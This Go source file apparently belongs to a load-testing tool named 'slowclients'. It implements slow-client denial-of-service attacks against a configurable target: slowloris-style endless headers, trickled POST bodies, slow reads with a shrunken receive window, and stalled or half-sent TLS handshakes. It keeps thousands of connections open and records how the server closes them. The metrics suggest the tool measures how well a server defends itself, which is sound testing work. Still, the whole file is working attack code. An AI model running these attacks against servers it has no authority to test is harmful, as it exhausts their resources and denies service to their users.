package main

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"os"
	"os/signal"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// attack keeps cfg.n slow connections open, one goroutine each ("slots"): at 4,000
// connections a goroutine parked in the netpoller costs a few KiB and no CPU, which
// keeps the attacker far cheaper than the server it attacks.
type attack struct {
	cfg   config
	start time.Time
	pace  pacer

	// openedAt[i] is when slot i's connection opened (UnixNano), 0 while it has none.
	openedAt []atomic.Int64

	mu          sync.Mutex
	opened      int64
	open        int
	maxOpen     int
	readyAfter  time.Duration // first time open reached cfg.n; -1 until then
	connectErrs map[string]int
	closedBy    map[string]int // "408 FAILURE_CLIENT_TIMEOUT, then close": n
	closed      int
	completed   int            // the server served the whole exchange (it did not fall for it)
	localErrs   map[string]int // ended by our side (a write timeout, ...), not the server
	alive       []float64      // seconds each connection the server closed had lived
	bytesOut    atomic.Int64
	bytesIn     atomic.Int64
}

// outcome is how one attack connection ended.
type outcome struct {
	answer string // "408 FAILURE_CLIENT_TIMEOUT", "200 SUCCESS", "no answer", ...
	how    string // close, reset, kept open, complete, or "error: ..." (ours)
}

func runAttack(cfg config) {
	a := &attack{
		cfg:         cfg,
		start:       time.Now(),
		pace:        pacer{gap: time.Duration(float64(time.Second) / cfg.rate)},
		openedAt:    make([]atomic.Int64, cfg.n),
		readyAfter:  -1,
		connectErrs: map[string]int{},
		closedBy:    map[string]int{},
		localErrs:   map[string]int{},
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()
	if cfg.dur > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, cfg.dur)
		defer cancel()
	}
	for i := range cfg.n {
		go a.slot(i)
	}
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-tick.C:
			a.mu.Lock()
			fmt.Fprintf(os.Stderr, "t=%.0fs open=%d opened=%d closed_by_server=%d connect_errors=%d\n",
				time.Since(a.start).Seconds(), a.open, a.opened, a.closed, sumCounts(a.connectErrs))
			a.mu.Unlock()
		case <-ctx.Done():
			// The summary is taken while every connection is still open, so that none of
			// our own closes is counted as the server's; exiting then closes them all
			// (with SO_LINGER 0: resets, no TIME_WAIT left for the next run).
			printJSON(a.summary())
			os.Exit(0)
		}
	}
}

// slot opens a connection, attacks with it until the server ends it, records how, and
// (with -reconnect) starts over: the attacker keeps cfg.n connections busy.
func (a *attack) slot(i int) {
	for {
		a.pace.wait()
		c, err := a.dial(i)
		if err != nil {
			a.mu.Lock()
			a.connectErrs[errKind(err)]++
			a.mu.Unlock()
			time.Sleep(time.Second) // a refusing server must not make us spin
			continue
		}
		t0 := time.Now()
		a.openedAt[i].Store(t0.UnixNano())
		a.connOpened()
		var o outcome
		switch a.cfg.mode {
		case "slowbody":
			o = a.slowBody(c)
		case "slowhead":
			o = a.slowHead(c)
		case "silent":
			o = a.silent(c)
		case "halfhello":
			o = a.halfHello(c)
		case "hello":
			o = a.stalledHello(c)
		default:
			o = a.slowRead(c)
		}
		lived := time.Since(t0)
		a.openedAt[i].Store(0)
		c.Close()
		a.connEnded(o, lived)
		if !a.cfg.reconnect {
			return
		}
	}
}

func (a *attack) dial(i int) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	if len(a.cfg.src) > 0 {
		d.LocalAddr = &net.TCPAddr{IP: a.cfg.src[i%len(a.cfg.src)]}
	}
	if a.cfg.mode == "slowread" && a.cfg.rcvbuf > 0 {
		// Before connect: the window offered in the SYN (and its scale) follows the
		// buffer, and a fixed SO_RCVBUF turns receive autotuning off, so the server can
		// push only a few KiB before it must hold the rest itself.
		d.Control = func(_, _ string, rc syscall.RawConn) error {
			var serr error
			err := rc.Control(func(fd uintptr) {
				serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, a.cfg.rcvbuf)
			})
			return errors.Join(err, serr)
		}
	}
	c, err := d.Dial("tcp", a.cfg.target)
	if err != nil {
		return nil, err
	}
	if tc, ok := c.(*net.TCPConn); ok {
		_ = tc.SetLinger(0)
	}
	return c, nil
}

func (a *attack) connOpened() {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.opened++
	a.open++
	a.maxOpen = max(a.maxOpen, a.open)
	if a.open >= a.cfg.n && a.readyAfter < 0 {
		a.readyAfter = time.Since(a.start)
		fmt.Fprintf(os.Stderr, "ready %d\n", a.open)
	}
}

func (a *attack) connEnded(o outcome, lived time.Duration) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.open--
	switch {
	case o.how == "complete":
		a.completed++
	case strings.HasPrefix(o.how, "error"):
		a.localErrs[o.answer+", then "+o.how]++
	default:
		a.closed++
		a.closedBy[o.answer+", then "+o.how]++
		a.alive = append(a.alive, lived.Seconds())
	}
}

// slowBody sends the head of a POST with cfg.contentLen bytes of body, then cfg.bytes
// of them every cfg.every, reading meanwhile whatever the server says.
func (a *attack) slowBody(c net.Conn) outcome {
	cfg := a.cfg
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowclients\r\n"+
		"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n%s\r\n",
		cfg.path, cfg.host, cfg.contentLen, debugLine(cfg))
	piece := []byte(strings.Repeat("x", cfg.bytes))
	sent := 0
	return a.trickle(c, head, func() []byte {
		k := min(cfg.bytes, cfg.contentLen-sent)
		sent += k
		return piece[:k]
	}, func(hp *headParser) outcome {
		if sent >= cfg.contentLen {
			return outcome{hp.answer(), "complete"} // it got the whole body: served, not defended
		}
		return a.afterAnswer(c, hp) // the server answered before the body ended
	})
}

// headFiller is the header line slowHead repeats. Every line of it is non-empty, so
// the stream never holds the empty line that would end the head, however it is cut.
const headFiller = "X-a: b\r\n"

// slowHead (slowloris) sends a request line and Host, then cfg.bytes of further header
// lines every cfg.every, never the empty line: the head stays open until the server
// gives up on it (a timeout for the whole head, or a limit on its size).
func (a *attack) slowHead(c net.Conn) outcome {
	cfg := a.cfg
	// The debug header goes with the first lines, as on every request of this tool
	// (main.go); whether a server honours it in a head it never finished reading is
	// the server's business, and the report shows which it did.
	head := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n%s", cfg.path, cfg.host, debugLine(cfg))
	// Pieces are cut from a run of filler lines long enough for any offset within a
	// line plus cfg.bytes, so that piece after piece continues the same stream.
	fill := []byte(strings.Repeat(headFiller, cfg.bytes/len(headFiller)+2))
	off := 0
	return a.trickle(c, head, func() []byte {
		p := fill[off : off+cfg.bytes]
		off = (off + cfg.bytes) % len(headFiller)
		return p
	}, func(hp *headParser) outcome {
		return a.afterAnswer(c, hp) // the head never ended: any answer is a refusal
	})
}

// tlsRecordHeader opens a TLS handshake record of 512 bytes (a ClientHello's),
// which halfHello never sends.
var tlsRecordHeader = []byte{0x16, 0x03, 0x01, 0x02, 0x00}

// halfHello sends the header of a ClientHello's record and nothing more: at a
// TLS port, a connection whose hello never comes (Gozer: no handshake slot,
// its memory until the handshake timeout).
func (a *attack) halfHello(c net.Conn) outcome {
	if err := a.write(c, tlsRecordHeader); err != nil {
		return a.afterWriteError(c, &headParser{}, err)
	}
	return a.silent(c)
}

// stalledHello sends a whole ClientHello (crypto/tls's, made once) and never
// the client's next flight: at a TLS port, a handshake that runs, answers,
// and waits for the client until the server's handshake timeout, or an
// eviction, ends it.
func (a *attack) stalledHello(c net.Conn) outcome {
	if err := a.write(c, clientHello()); err != nil {
		return a.afterWriteError(c, &headParser{}, err)
	}
	return a.silent(c)
}

// clientHello is the first record crypto/tls's client sends (SNI localhost),
// made once through a pipe.
var clientHello = sync.OnceValue(func() []byte {
	a, b := net.Pipe()
	defer a.Close()
	defer b.Close()
	go func() { _ = tls.Client(a, &tls.Config{ServerName: "localhost"}).Handshake() }()
	hdr := make([]byte, 5)
	if _, err := io.ReadFull(b, hdr); err != nil {
		panic(err)
	}
	body := make([]byte, int(hdr[3])<<8|int(hdr[4]))
	if _, err := io.ReadFull(b, body); err != nil {
		panic(err)
	}
	return append(hdr, body...)
})

// silent sends nothing and reads until the server ends the connection: at a TLS
// port, a handshake that never starts.
func (a *attack) silent(c net.Conn) outcome {
	var hp headParser
	buf := make([]byte, 1024)
	for {
		n, err := c.Read(buf)
		if n > 0 {
			a.bytesIn.Add(int64(n))
			hp.feed(buf[:n])
		}
		if err != nil {
			return outcome{hp.answer(), endHow(err)}
		}
	}
}

// trickle writes head, then what piece gives (nothing when empty) every cfg.every,
// reading meanwhile whatever the server says; answered decides what a whole answer
// head means. slowBody and slowHead differ only in their pieces and that decision.
func (a *attack) trickle(c net.Conn, head string, piece func() []byte, answered func(*headParser) outcome) outcome {
	var hp headParser
	if err := a.write(c, []byte(head)); err != nil {
		return a.afterWriteError(c, &hp, err)
	}
	buf := make([]byte, 1024)
	next := time.Now().Add(a.cfg.every)
	for {
		_ = c.SetReadDeadline(next)
		n, err := c.Read(buf)
		if n > 0 {
			a.bytesIn.Add(int64(n))
			if hp.feed(buf[:n]) {
				return answered(&hp)
			}
		}
		switch {
		case err == nil:
		case isTimeout(err):
			if p := piece(); len(p) > 0 {
				if err := a.write(c, p); err != nil {
					return a.afterWriteError(c, &hp, err)
				}
			}
			next = time.Now().Add(a.cfg.every)
		default:
			return outcome{hp.answer(), endHow(err)}
		}
	}
}

// slowRead asks for a large response and reads cfg.bytes of it every cfg.every.
func (a *attack) slowRead(c net.Conn) outcome {
	cfg := a.cfg
	req := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowclients\r\n%s\r\n", cfg.path, cfg.host, debugLine(cfg))
	var hp headParser
	if err := a.write(c, []byte(req)); err != nil {
		return a.afterWriteError(c, &hp, err)
	}
	buf := make([]byte, cfg.bytes)
	var got int64
	for {
		// A server that closes gracefully sends its FIN after the data still queued for
		// us, so reading 4 bytes a second would take hours to reach it; TCP_INFO shows
		// CLOSE_WAIT as soon as the FIN is in, and then the rest is drained at once. (A
		// server that closes with data it could not send yet stays ESTABLISHED here until
		// its kernel gives up; one that resets is seen at the next read.)
		if st := tcpState(c); st != tcpEstablished {
			return a.drain(c, &hp)
		}
		next := time.Now().Add(cfg.every)
		_ = c.SetReadDeadline(next)
		n, err := c.Read(buf)
		if n > 0 {
			got += int64(n)
			a.bytesIn.Add(int64(n))
			hp.feed(buf[:n])
			if hp.complete(got) {
				return outcome{hp.answer(), "complete"}
			}
		}
		switch {
		case err == nil:
			time.Sleep(time.Until(next))
		case isTimeout(err):
		default:
			return outcome{hp.answer(), endHow(err)}
		}
	}
}

// afterAnswer: the server's response head is in; whether it then closes is part of
// the answer (a server must not keep a connection whose body it did not read).
func (a *attack) afterAnswer(c net.Conn, hp *headParser) outcome {
	_ = c.SetReadDeadline(time.Now().Add(time.Second))
	n, err := io.Copy(io.Discard, c)
	a.bytesIn.Add(n)
	if err == nil {
		return outcome{hp.answer(), "close"}
	}
	return outcome{hp.answer(), endHow(err)}
}

// afterWriteError: the server closed or reset while we were writing; what it said
// before, if anything, is still in our receive buffer.
func (a *attack) afterWriteError(c net.Conn, hp *headParser, werr error) outcome {
	_ = c.SetReadDeadline(time.Now().Add(time.Second))
	buf := make([]byte, 4096)
	for !hp.done {
		n, err := c.Read(buf)
		a.bytesIn.Add(int64(n))
		hp.feed(buf[:n])
		if err != nil {
			break
		}
	}
	return outcome{hp.answer(), endHow(werr)}
}

// drain reads what is left after the server's FIN, quickly: the last bytes of its
// buffer and the end.
func (a *attack) drain(c net.Conn, hp *headParser) outcome {
	_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 32<<10)
	for {
		n, err := c.Read(buf)
		a.bytesIn.Add(int64(n))
		hp.feed(buf[:n])
		if err != nil {
			// EOF, or data still coming after the FIN we saw: either way the server closed.
			if errors.Is(err, io.EOF) || isTimeout(err) {
				return outcome{hp.answer(), "close"}
			}
			return outcome{hp.answer(), endHow(err)}
		}
	}
}

func (a *attack) write(c net.Conn, p []byte) error {
	_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	n, err := c.Write(p)
	a.bytesOut.Add(int64(n))
	return err
}

func debugLine(cfg config) string {
	if cfg.debugHeader == "" {
		return ""
	}
	return cfg.debugHeader + ": 1\r\n"
}

// TCP states of tcp_info.tcpi_state (include/net/tcp_states.h). After the server's
// FIN ours is CLOSE_WAIT (8); after its reset, CLOSE.
const (
	tcpEstablished = 1
	tcpClose       = 7
)

func tcpState(c net.Conn) uint8 {
	tc, ok := c.(*net.TCPConn)
	if !ok {
		return tcpEstablished
	}
	rc, err := tc.SyscallConn()
	if err != nil {
		return tcpClose
	}
	st := uint8(tcpEstablished)
	_ = rc.Control(func(fd uintptr) {
		if info, err := unix.GetsockoptTCPInfo(int(fd), unix.IPPROTO_TCP, unix.TCP_INFO); err == nil {
			st = info.State
		}
	})
	return st
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

// endHow names the way a connection ended from the error that told us.
func endHow(err error) string {
	switch {
	case err == nil, errors.Is(err, io.EOF), errors.Is(err, syscall.EPIPE):
		return "close"
	case errors.Is(err, syscall.ECONNRESET):
		return "reset"
	case isTimeout(err):
		return "kept open"
	}
	return "error: " + errKind(err)
}

// errKind shortens an error to its cause ("connection refused", "i/o timeout"),
// without the addresses that would make every one distinct.
func errKind(err error) string {
	var se syscall.Errno
	if errors.As(err, &se) {
		return se.Error()
	}
	if isTimeout(err) {
		return "timeout"
	}
	s := err.Error()
	if i := strings.LastIndex(s, ": "); i >= 0 {
		s = s[i+2:]
	}
	return s
}

func sumCounts(m map[string]int) int {
	n := 0
	for _, v := range m {
		n += v
	}
	return n
}

// pacer spaces new connections at most one per gap, across all slots.
type pacer struct {
	mu   sync.Mutex
	next time.Time
	gap  time.Duration
}

func (p *pacer) wait() {
	p.mu.Lock()
	now := time.Now()
	if p.next.Before(now) {
		p.next = now
	}
	t := p.next
	p.next = p.next.Add(p.gap)
	p.mu.Unlock()
	time.Sleep(time.Until(t))
}

// attackSummary is the JSON line an attack prints when it stops.
type attackSummary struct {
	Mode           string         `json:"mode"`
	Target         string         `json:"target"`
	Path           string         `json:"path"`
	Conns          int            `json:"conns"`
	Every          string         `json:"every"`
	Bytes          int            `json:"bytes"`
	Sources        int            `json:"sources"`
	DurationS      float64        `json:"duration_s"`
	Opened         int64          `json:"opened"`
	OpenNow        int            `json:"open_now"`
	MaxOpen        int            `json:"max_open"`
	ReadyAfterS    float64        `json:"ready_after_s"` // -1: never had all conns open at once
	ConnectErrors  map[string]int `json:"connect_errors"`
	ClosedByServer int            `json:"closed_by_server"`
	ClosedBy       map[string]int `json:"closed_by"`
	Completed      int            `json:"completed"`
	LocalErrors    map[string]int `json:"local_errors"`
	AliveMedianS   float64        `json:"alive_median_s"` // of the connections the server closed
	AliveMaxS      float64        `json:"alive_max_s"`
	OpenAgeMedianS float64        `json:"open_age_median_s"` // of those still open at the end
	OpenAgeMaxS    float64        `json:"open_age_max_s"`
	BytesSent      int64          `json:"bytes_sent"`
	BytesReceived  int64          `json:"bytes_received"`
	CPUUserS       float64        `json:"cpu_user_s"`
	CPUSysS        float64        `json:"cpu_sys_s"`
	CPUS           float64        `json:"cpu_s"`
	CPUPct         float64        `json:"cpu_pct"` // of one core, over the run
}

func (a *attack) summary() attackSummary {
	now := time.Now()
	var ages []float64
	for i := range a.openedAt {
		if t := a.openedAt[i].Load(); t != 0 {
			ages = append(ages, now.Sub(time.Unix(0, t)).Seconds())
		}
	}
	sort.Float64s(ages)
	a.mu.Lock()
	defer a.mu.Unlock()
	alive := sortedCopy(a.alive)
	usr, sys := cpuSeconds()
	dur := now.Sub(a.start).Seconds()
	ready := -1.0
	if a.readyAfter >= 0 {
		ready = round3(a.readyAfter.Seconds())
	}
	return attackSummary{
		Mode: a.cfg.mode, Target: a.cfg.target, Path: a.cfg.path, Conns: a.cfg.n,
		Every: a.cfg.every.String(), Bytes: a.cfg.bytes, Sources: len(a.cfg.src),
		DurationS: round3(dur), Opened: a.opened, OpenNow: a.open, MaxOpen: a.maxOpen, ReadyAfterS: ready,
		// Copies: the slots go on writing to the maps while the summary is encoded.
		ConnectErrors: maps.Clone(a.connectErrs), ClosedByServer: a.closed, ClosedBy: maps.Clone(a.closedBy),
		Completed: a.completed, LocalErrors: maps.Clone(a.localErrs),
		AliveMedianS: round3(quantile(alive, 0.5)), AliveMaxS: round3(quantile(alive, 1)),
		OpenAgeMedianS: round3(quantile(ages, 0.5)), OpenAgeMaxS: round3(quantile(ages, 1)),
		BytesSent: a.bytesOut.Load(), BytesReceived: a.bytesIn.Load(),
		CPUUserS: round3(usr), CPUSysS: round3(sys), CPUS: round3(usr + sys),
		CPUPct: round3(100 * (usr + sys) / max(dur, 1e-9)),
	}
}
